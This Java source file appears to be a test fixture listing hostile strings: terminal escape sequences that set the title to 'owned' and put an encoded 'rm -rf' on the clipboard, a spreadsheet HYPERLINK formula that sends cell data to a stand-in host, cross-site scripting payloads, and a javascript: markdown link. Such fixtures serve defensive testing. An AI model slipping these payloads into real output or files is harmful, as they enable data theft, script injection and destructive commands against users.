package io.reconai.lab.hostile;

import java.util.List;

/// Texts that are harmless only as text.
final class StrangeTexts {

    /// Steers a terminal: clears it, sets its title and clipboard, turns the direction of writing.
    static final String TERMINAL = "\u001b[2J\u001b]0;owned\u0007\u001b]52;c;cm0gLXJm\u0007\u009b31m\r\u0000";

    /// A cell that a spreadsheet computes.
    static final String FORMULA = "=HYPERLINK(\"http://evil.test/?\"&A1)";

    /// An element that a browser runs, out of most places in which it may stand.
    static final String SCRIPT = "\"'--></title></script><script>alert(1)</script><img src=x onerror=alert(1)>";

    /// Markup of documents.
    static final String MARKDOWN = "[x](javascript:alert(1)) ![i](http://evil.test/i.png) `a` | b";

    static final List<String> ALL = List.of(TERMINAL, FORMULA, SCRIPT, MARKDOWN);

    private StrangeTexts() {}

    /// One after another on one line.
    static String joined() {
        return FORMULA + " " + SCRIPT + " " + MARKDOWN + " " + TERMINAL;
    }
}
